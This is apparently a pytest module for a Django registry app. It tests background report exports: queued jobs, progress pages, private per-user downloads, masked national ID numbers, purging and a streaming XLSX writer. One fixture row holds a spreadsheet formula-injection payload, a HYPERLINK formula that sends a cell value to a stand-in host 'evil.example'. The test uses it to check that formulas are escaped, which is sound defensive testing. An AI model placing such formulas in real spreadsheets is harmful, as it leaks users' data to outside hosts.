"""Big exports run as background jobs: a progress page, a private file for the user who asked, a purge.

Below ``EXPORT_INLINE_MAX_ROWS`` rows an export is answered in the request as before; above it the request
only counts the rows, stores a job and sends the browser to a progress page that polls until the file is
written by a task (the immediate backend here runs it at once, the dummy one keeps it queued).
"""

from __future__ import annotations

import csv
import datetime as dt
import io
import os
from pathlib import Path

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from django_tasks import default_task_backend
from openpyxl import load_workbook

from tests.conftest import login
from tests.registry.helpers import english, group_with_members
from tunas.registry.models import Membership, Verification
from tunas.registry.reports import GroupListReport, MemberListReport
from tunas.registry.selectors import membership_scope_q
from tunas.reports.generators import ReportGenerator, reports
from tunas.reports.models import ExportJob
from tunas.reports.renderers import Column, write_xlsx_file, xlsx_bytes
from tunas.reports.tasks import export_job_task

pytestmark = pytest.mark.django_db

IMMEDIATE = {"default": {"BACKEND": "django_tasks.backends.immediate.ImmediateBackend"}}
DUMMY = {"default": {"BACKEND": "django_tasks.backends.dummy.DummyBackend"}}


@pytest.fixture(autouse=True)
def _small_threshold(settings, tmp_path):
    settings.EXPORT_INLINE_MAX_ROWS = 3
    settings.PRIVATE_MEDIA_ROOT = tmp_path / "private"
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.TASKS = IMMEDIATE


def _sheet(content: bytes) -> list[tuple]:
    return list(load_workbook(io.BytesIO(content)).active.iter_rows(values_only=True))


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _job_of(response) -> ExportJob:
    job = ExportJob.objects.get()
    assert response.status_code == 302
    assert response.url == reverse("reports:export_progress", args=[job.pk])
    return job


def _download(client, job: ExportJob):
    return client.get(reverse("reports:export_file", args=[job.pk]))


# Inline or in the background ------------------------------------------------------------------------------


def test_an_export_at_or_under_the_threshold_is_answered_in_the_request(as_officer, program):
    group_with_members(program, 3)
    response = as_officer.get(reverse("registry:member_export"))
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith("attachment;")
    assert len(_sheet(response.content)) == 4
    assert not ExportJob.objects.exists()


def test_an_export_over_the_threshold_becomes_a_queued_job_and_redirects_to_its_progress(
    settings, officer, program
):
    settings.TASKS = DUMMY
    group_with_members(program, 4)
    response = login(officer).get(reverse("registry:member_export"), {"verification": "", "sort": "-name"})
    job = _job_of(response)
    assert (job.report_code, job.format, job.status) == ("participants", "xlsx", ExportJob.Status.QUEUED)
    assert (job.rows_total, job.rows_done, job.requested_by) == (4, 0, officer)
    assert job.query == "verification=&sort=-name"
    assert not job.file
    [result] = default_task_backend.results
    assert (result.task.name, result.args) == ("export_job_task", [job.pk])


def test_the_report_list_csv_over_the_threshold_is_a_job_too(as_officer, program):
    group_with_members(program, 4)
    job = _job_of(as_officer.get(reverse("reports:download", args=["participants", "csv"])))
    assert (job.format, job.status, job.rows_done) == ("csv", ExportJob.Status.DONE, 4)


def test_a_pdf_stays_in_the_request_whatever_its_size(as_officer, program):
    group_with_members(program, 4)
    response = as_officer.get(reverse("reports:download", args=["participants", "pdf"]))
    assert (response.status_code, response["Content-Type"]) == (200, "application/pdf")
    assert not ExportJob.objects.exists()


def test_the_registry_reports_count_their_rows_with_one_query(officer, program, django_assert_num_queries):
    group_with_members(program, 2)
    group_with_members(program, 3)
    members, groups = MemberListReport(), GroupListReport()
    member_filters, group_filters = members.filters(officer, {}), groups.filters(officer, {"status": ""})
    assert officer.roles
    membership_scope_q(officer)  # the offices of the user's jurisdiction are read once per request
    with django_assert_num_queries(1):
        assert members.count(officer, member_filters) == 5
    with django_assert_num_queries(1):
        assert groups.count(officer, group_filters) == 2


def test_a_report_without_a_count_stays_in_the_request(as_officer):
    class Numbers(ReportGenerator):
        code = "numbers-test"
        title = "Numbers"

        def is_available_to(self, user):
            return True

        def columns(self, user):
            return [Column("n", "N", kind="int")]

        def rows(self, user, filters):
            return ({"n": i} for i in range(10))

    with reports.register_temporarily(Numbers()):
        response = as_officer.get(reverse("reports:download", args=["numbers-test", "xlsx"]))
    assert response.status_code == 200
    assert len(_sheet(response.content)) == 11


# The task writes what the list shows ----------------------------------------------------------------------


def test_the_background_file_holds_the_filtered_rows_with_masked_niks_for_a_viewer(settings, viewer, program):
    group, members = group_with_members(program, 6)
    approved = members[:4]
    Membership.objects.filter(pk__in=[m.pk for m in approved]).update(verification=Verification.APPROVED)
    client = english(login(viewer))
    url, params = reverse("registry:member_export"), {"verification": "approved"}

    job = _job_of(client.get(url, params))
    job.refresh_from_db()
    assert (job.status, job.rows_total, job.rows_done, job.error) == (ExportJob.Status.DONE, 4, 4, "")
    response = _download(client, job)
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="participants-')
    assert response["Content-Disposition"].endswith('.xlsx"')
    rows = _sheet(_body(response))

    settings.EXPORT_INLINE_MAX_ROWS = 1000
    assert rows == _sheet(client.get(url, params).content), "the same rows as the export in the request"
    header, *data = rows
    record = [dict(zip(header, r, strict=True)) for r in data]
    assert sorted(r["Full name"] for r in record) == sorted(m.person.full_name for m in approved)
    assert {r["NIK"] for r in record} == {m.person.nik_masked for m in approved}
    assert not any(m.person.nik in str(r) for m in members for r in data)
    assert "Phone" not in header


def test_the_background_csv_holds_the_same_rows_as_the_csv_in_the_request(settings, as_officer, program):
    group_with_members(program, 5)
    url = reverse("reports:download", args=["participants", "csv"])
    job = _job_of(as_officer.get(url, {"sort": "nik"}))
    content = _body(_download(as_officer, job))
    assert content.startswith("\ufeff".encode())
    settings.EXPORT_INLINE_MAX_ROWS = 1000
    assert content == _body(as_officer.get(url, {"sort": "nik"}))
    assert len(list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))) == 6


def test_the_file_lies_in_the_private_storage_outside_the_media_root(settings, as_officer, program):
    group_with_members(program, 4)
    job = _job_of(as_officer.get(reverse("registry:member_export")))
    job.refresh_from_db()
    path = Path(job.file.path)
    assert path.is_file()
    assert path.is_relative_to(Path(settings.PRIVATE_MEDIA_ROOT))
    assert not path.is_relative_to(Path(settings.MEDIA_ROOT))


def test_the_worker_writes_progress_every_thousand_rows(as_officer):
    seen: list[int] = []

    class Counting(ReportGenerator):
        code = "counting-test"
        title = "Counting"

        def is_available_to(self, user):
            return True

        def count(self, user, filters):
            return 2500

        def columns(self, user):
            return [Column("n", "N", kind="int")]

        def rows(self, user, filters):
            for i in range(2500):
                if i in (999, 1000, 2001):
                    seen.append(ExportJob.objects.get().rows_done)
                yield {"n": i}

    with reports.register_temporarily(Counting()):
        job = _job_of(as_officer.get(reverse("reports:download", args=["counting-test", "xlsx"])))
    assert seen == [0, 1000, 2000]
    job.refresh_from_db()
    assert (job.status, job.rows_total, job.rows_done) == (ExportJob.Status.DONE, 2500, 2500)


def test_a_failing_report_ends_the_job_failed_with_a_message_and_no_file(as_officer):
    class Broken(ReportGenerator):
        code = "broken-test"
        title = "Broken"

        def is_available_to(self, user):
            return True

        def count(self, user, filters):
            return 10

        def columns(self, user):
            return [Column("n", "N")]

        def rows(self, user, filters):
            yield {"n": 1}
            raise RuntimeError("the database went away")

    with reports.register_temporarily(Broken()):
        job = _job_of(english(as_officer).get(reverse("reports:download", args=["broken-test", "csv"])))
        job.refresh_from_db()
        assert job.status == ExportJob.Status.FAILED
        assert not job.file
        assert "internal error" in job.error
        page = as_officer.get(reverse("reports:export_progress", args=[job.pk])).content.decode()
    assert job.error in page
    assert _download(as_officer, job).status_code == 404


def test_the_worker_checks_again_that_the_user_may_have_the_report(settings, officer, program):
    settings.TASKS = DUMMY
    group_with_members(program, 4)
    job = _job_of(login(officer).get(reverse("registry:member_export")))
    officer.groups.clear()  # the roles are taken away before a worker starts the job
    export_job_task.call(job.pk)
    job.refresh_from_db()
    assert (job.status, bool(job.file)) == (ExportJob.Status.FAILED, False)


def test_a_job_runs_once(settings, as_officer, program):
    group_with_members(program, 4)
    job = _job_of(as_officer.get(reverse("registry:member_export")))
    job.refresh_from_db()
    name = job.file.name
    assert export_job_task.call(job.pk) == ExportJob.Status.DONE
    job.refresh_from_db()
    assert job.file.name == name


def test_the_database_queue_and_its_worker_run_the_job(settings, monkeypatch, as_officer, program):
    settings.TASKS = {"default": {"BACKEND": "django_tasks_db.DatabaseBackend"}}
    # The worker closes stale connections between tasks; here that would be the test's own connection.
    monkeypatch.setattr("django_tasks_db.management.commands.db_worker.close_old_connections", lambda: None)
    group_with_members(program, 4)
    job = _job_of(as_officer.get(reverse("registry:member_export")))
    assert job.status == ExportJob.Status.QUEUED
    call_command("db_worker", "--batch", "--no-startup-delay", "--interval", "0", verbosity=0)
    job.refresh_from_db()
    assert (job.status, job.rows_done) == (ExportJob.Status.DONE, 4)
    assert len(_sheet(_body(_download(as_officer, job)))) == 5


# Progress and download pages ------------------------------------------------------------------------------


def _running_job(user, **fields) -> ExportJob:
    values = {
        "report_code": "participants",
        "format": "xlsx",
        "filename": "participants-20260101.xlsx",
        "requested_by": user,
        "status": ExportJob.Status.RUNNING,
        "rows_total": 5000,
        "rows_done": 2000,
    }
    values.update(fields)
    return ExportJob.objects.create(**values)


def test_the_progress_page_polls_every_two_seconds_with_a_progress_bar(officer):
    job = _running_job(officer)
    client = english(login(officer))
    url = reverse("reports:export_progress", args=[job.pk])
    page = client.get(url).content.decode()
    assert 'hx-trigger="every 2s"' in page
    assert 'aria-valuenow="40"' in page
    assert "2,000 of 5,000 rows written" in page
    assert "<script>" not in page and "style=" not in page, "the Content Security Policy allows neither"
    partial = client.get(url, HTTP_HX_REQUEST="true").content.decode()
    assert partial.lstrip().startswith('<div id="export-progress"')
    assert "<html" not in partial


def test_a_finished_job_shows_its_download_link_and_stops_polling(as_officer, officer, program):
    group_with_members(program, 4)
    job = _job_of(as_officer.get(reverse("registry:member_export")))
    url = reverse("reports:export_progress", args=[job.pk])
    for page in (as_officer.get(url), as_officer.get(url, HTTP_HX_REQUEST="true")):
        html = page.content.decode()
        assert reverse("reports:export_file", args=[job.pk]) in html
        assert "hx-trigger" not in html


def test_a_queued_job_nobody_started_warns_that_the_worker_may_be_down(officer):
    job = _running_job(officer, status=ExportJob.Status.QUEUED, rows_done=0)
    ExportJob.objects.filter(pk=job.pk).update(updated_at=timezone.now() - dt.timedelta(minutes=11))
    page = english(login(officer)).get(reverse("reports:export_progress", args=[job.pk])).content.decode()
    assert "worker may not be running" in page


def test_the_download_and_progress_are_only_for_the_user_who_asked(
    as_officer, admin_user, outsider, program, client
):
    group_with_members(program, 4)
    job = _job_of(as_officer.get(reverse("registry:member_export")))
    assert _download(as_officer, job).status_code == 200
    for other in (admin_user, outsider):
        assert _download(login(other), job).status_code == 404
        assert login(other).get(reverse("reports:export_progress", args=[job.pk])).status_code == 404
    for url in (
        reverse("reports:export_file", args=[job.pk]),
        reverse("reports:export_progress", args=[job.pk]),
    ):
        anonymous = client.get(url)
        assert anonymous.status_code == 302
        assert anonymous.url.startswith(reverse("accounts:login"))


def test_an_unfinished_job_has_no_file_to_download(officer):
    job = _running_job(officer)
    assert _download(login(officer), job).status_code == 404


# The purge ------------------------------------------------------------------------------------------------


def test_purge_exports_deletes_finished_files_past_the_retention(settings, as_officer, program):
    settings.EXPORT_RETENTION_HOURS = 24
    group_with_members(program, 4)
    as_officer.get(reverse("registry:member_export"))
    as_officer.get(reverse("registry:member_export"))
    old, fresh = ExportJob.objects.order_by("pk")
    # One finished 25 hours ago, one an hour ago.
    ExportJob.objects.filter(pk=old.pk).update(updated_at=timezone.now() - dt.timedelta(hours=25))
    ExportJob.objects.filter(pk=fresh.pk).update(updated_at=timezone.now() - dt.timedelta(hours=1))
    old_path, fresh_path = Path(old.file.path), Path(fresh.file.path)
    assert old_path.is_file() and fresh_path.is_file()

    out = io.StringIO()
    call_command("purge_exports", stdout=out)
    assert not old_path.exists()
    assert fresh_path.is_file()
    assert list(ExportJob.objects.values_list("pk", flat=True)) == [fresh.pk]
    assert "1" in out.getvalue()


def test_purge_exports_leaves_running_jobs_alone_until_they_are_long_stale(settings, officer):
    settings.EXPORT_RETENTION_HOURS = 24
    running = _running_job(officer)
    ExportJob.objects.filter(pk=running.pk).update(updated_at=timezone.now() - dt.timedelta(hours=2))
    call_command("purge_exports", stdout=io.StringIO())
    assert ExportJob.objects.filter(pk=running.pk).exists()
    ExportJob.objects.filter(pk=running.pk).update(updated_at=timezone.now() - dt.timedelta(hours=25))
    call_command("purge_exports", stdout=io.StringIO())
    assert not ExportJob.objects.filter(pk=running.pk).exists()


def test_purge_exports_deletes_old_files_no_job_names(settings, tmp_path):
    settings.EXPORT_RETENTION_HOURS = 24
    folder = Path(settings.PRIVATE_MEDIA_ROOT) / "exports" / "2026" / "01"
    folder.mkdir(parents=True)
    old, fresh = folder / "1-old.xlsx", folder / "2-fresh.xlsx"
    old.write_bytes(b"x")
    fresh.write_bytes(b"x")
    long_ago = (timezone.now() - dt.timedelta(hours=30)).timestamp()
    os.utime(old, (long_ago, long_ago))
    call_command("purge_exports", stdout=io.StringIO())
    assert (old.exists(), fresh.exists()) == (False, True)


# The write-only workbook ----------------------------------------------------------------------------------

COLUMNS = [
    Column("name", "Name", width=28),
    Column("nik", "NIK"),
    Column("amount", "Amount", kind="rupiah"),
    Column("members", "Members", kind="int"),
    Column("born", "Born", kind="date"),
    Column("share", "Share", kind="percent"),
]
ROWS = [
    {
        "name": '=HYPERLINK("http://evil.example/?x="&A1,"Klik")',
        "nik": "5105031203850001",
        "amount": 1_250_000,
        "members": 12,
        "born": dt.date(1985, 3, 12),
        "share": 0.25,
    },
    {"name": "+6281234567890", "nik": "@SUM(A1)", "amount": None, "members": 0, "born": None, "share": 1},
]


def test_the_write_only_workbook_escapes_formulas_and_formats_each_column_kind(tmp_path):
    path = tmp_path / "out.xlsx"
    assert write_xlsx_file(path, "Sheet", COLUMNS, iter(ROWS)) == 2
    ws = load_workbook(path).active
    assert ws.title == "Sheet"
    assert ws["A2"].value == '\'=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
    assert ws["A2"].data_type == "s"
    assert ws["A3"].value == "+6281234567890", "a plain signed number calls nothing and stays as it is"
    assert ws["B3"].value == "'@SUM(A1)"
    assert [ws.cell(2, i).number_format for i in range(1, 7)] == [
        "@",
        "@",
        '"Rp" #,##0',
        "#,##0",
        "DD-MM-YYYY",
        "0.0%",
    ]
    assert ws["E2"].value == dt.datetime(1985, 3, 12)
    assert ws["A1"].font.b and ws["A1"].fill.fgColor.rgb.endswith("D7ECDF")
    assert ws.freeze_panes == "A2"
    assert ws.column_dimensions["A"].width == 28


def test_the_write_only_workbook_holds_the_values_of_the_in_memory_one(tmp_path):
    path = tmp_path / "out.xlsx"
    write_xlsx_file(path, "Sheet", COLUMNS, ROWS)
    streamed = list(load_workbook(path).active.iter_rows(values_only=True))
    in_memory = _sheet(xlsx_bytes([("Sheet", COLUMNS, ROWS)]))
    assert streamed == in_memory


def test_the_write_only_workbook_reports_progress_every_thousand_rows(tmp_path):
    calls: list[int] = []
    rows = ({"name": f"n{i}", "members": i} for i in range(2345))
    buffer = io.BytesIO()
    assert write_xlsx_file(buffer, "Sheet", COLUMNS, rows, progress=calls.append) == 2345
    assert calls == [1000, 2000, 2345]
    assert len(_sheet(buffer.getvalue())) == 2346
